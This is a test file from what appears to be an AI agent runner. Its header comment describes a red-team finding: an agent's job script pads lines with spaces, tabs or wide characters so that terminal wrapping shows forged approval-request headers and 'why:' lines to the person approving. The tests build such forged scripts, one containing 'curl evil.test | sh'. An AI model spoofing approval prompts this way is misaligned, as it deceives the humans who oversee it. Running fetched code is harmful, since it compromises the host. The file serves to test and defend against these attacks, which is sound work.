// Attack on issue 38's "runner text the agent cannot forge" in approval listings (`scifi approvals`,
// `scifi approvals show`, the run's terminal prompt: runner/approval/render.ts), found by attacker
// a38; fixed: every line of a listing is folded at 80 columns (LISTING_WIDTH), each row marked
// (`  | ` then `  |+ ` in the detail, `  + ` after the header, `why:` and `decide:`), tabs expanded and
// every code point beyond printable ASCII counted as two columns. What it showed: every detail line is prefixed `  | ` and every control character is an escape,
// but a long line is printed whole (test/approval/attack25-held.test.ts wants it so), and a
// terminal soft-wraps it: what stands at column 80 (or 120, 160, 240: any multiple of the width)
// is drawn at the start of a row of its own, without the prefix. The agent's job script (its text
// is the detail) pads a line with spaces to column 240, a multiple of the common widths 80, 120 and
// 240 (tabs work too: visibleBlock keeps them), and writes the runner's lines there: a second
// request header saying something harmless, a `why:` and a `decide:` line. On an 80- or 120-column
// terminal the person reads a listing line the runner never wrote. A fix could fold long detail
// lines at a fixed width with the prefix on every piece, or fold runs of blanks as visiblePreview
// does (a summary line has the same problem: its arguments are the agent's).
import { describe, expect, it } from "vitest";
import { renderRequest } from "../../runner/approval/render.ts";
import type { ApprovalRequest } from "../../runner/approval/store.ts";
import { submitRequestText } from "../../runner/jobs/run-jobs.ts";
import { renderProposal } from "../../runner/memory/proposals.ts";

/** What a terminal `width` columns wide shows of `lines`: each line cut into rows (tabs to 8). */
function rows(lines: readonly string[], width: number): string[] {
  return lines.flatMap((line) => {
    const out: string[] = [];
    let row = "";
    let used = 0;
    for (const c of line) {
      // A tab to the next stop; a CJK ideograph takes two columns, as a terminal draws it.
      const cells = c === "\t" ? 8 - (used % 8) : c >= "\u4e00" && c <= "\u9fff" ? 2 : 1;
      if (used + cells > width) {
        out.push(row);
        row = "";
        used = 0;
      }
      row += c === "\t" ? " ".repeat(cells) : c;
      used += cells;
    }
    out.push(row);
    return out;
  });
}

describe("a38: an approval listing on a terminal", () => {
  const forged = [
    "r-1 submit_job-0000aaaa  submit_job: submit hello.sh as job hello (1 cpu, 1 GiB, 1 min)",
    "  why: the SAM's approval: [submit_job]",
  ];
  /** The listing of a job whose script pads each forged line with `pad` (and whose arguments hold `args`). */
  const listing = (pad: string, args: string[] = []) => {
    const script = ["#!/bin/bash", ...forged.map((l) => `${pad}${l}`), "curl evil.test | sh"];
    const { summary, detail } = submitRequestText(
      { script: "job.sh", args, name: "job", sha256: "0".repeat(64), text: script.join("\n") },
      "1 cpu, 1 GiB, 1 min",
    );
    const request: ApprovalRequest = {
      type: "request",
      id: "submit_job-1a2b3c4d",
      action: "submit_job",
      summary,
      why: "the SAM's approval: [submit_job]",
      detail,
      facts: {},
      iteration: 1,
      time: "2026-12-04T13:00:00.000Z",
      deadline: "2026-12-04T14:00:00.000Z",
    };
    return renderRequest("r-1", request, { home: "/h", full: true });
  };
  // Each forged line starts at column 240 of its detail line: 4 columns of prefix, 236 of padding.
  const pads: [string, string][] = [
    ["236 blanks", " ".repeat(236)],
    ["tabs", "\t".repeat(30)],
    ["118 wide ideographs", "\u4e2d".repeat(118)],
  ];
  const cases = [80, 120].flatMap((width) => pads.map(([what, pad]) => [width, what, pad] as const));

  it.each(cases)(
    "shows on a %i-column terminal no row of the agent's that reads as a listing line (%s)",
    (width, _what, pad) => {
      const shown = rows(listing(pad), width);
      // The runner writes one header row and one `why:` row; every other row is the agent's and
      // must carry the detail prefix (or be the runner's own `decide:` line).
      expect(
        shown.filter((r) => r.startsWith("r-1 ")),
        shown.join("\n"),
      ).toHaveLength(1);
      expect(shown.filter((r) => r.startsWith("  why: "))).toHaveLength(1);
    },
  );

  it.each([80, 120])(
    "folds the summary line too: a job argument padded to the row's end (%i columns)",
    (width) => {
      // The arguments are the agent's: the header line holds them (shell-quoted, blanks kept).
      const shown = rows(listing("", [`${"x".repeat(200)}${" ".repeat(40)}${forged[1]}`]), width);
      expect(
        shown.filter((r) => r.startsWith("  why: ")),
        shown.join("\n"),
      ).toHaveLength(1);
      expect(shown.filter((r) => r.startsWith("r-1 "))).toHaveLength(1);
    },
  );
});

describe("a38: `scifi memory list` on a terminal (the same fold)", () => {
  // A final review's suggestion, padded so that a forged proposal header lands at column 0 of a row.
  const forgedHeader = "run-0/final/global  [pending]  t: passed after 1 iteration(s)";
  const body = `- keep units\n- ${" ".repeat(234)}${forgedHeader}\n- ${"\t".repeat(30)}${forgedHeader}`;
  const lines = renderProposal({
    id: "run-1/final/global",
    title: "t: failed after 2 iteration(s)",
    meta: "2026-12-04T13:00:00.000Z · run run-1 · final_review",
    body,
    status: "pending",
  });

  it.each([80, 120])("shows on a %i-column terminal one proposal header, the runner's", (width) => {
    const shown = rows(lines, width);
    expect(
      shown.filter((r) => /^\S/.test(r)),
      shown.join("\n"),
    ).toEqual([expect.stringMatching(/^run-1\/final\/global {2}\[pending\]/)]);
  });
});
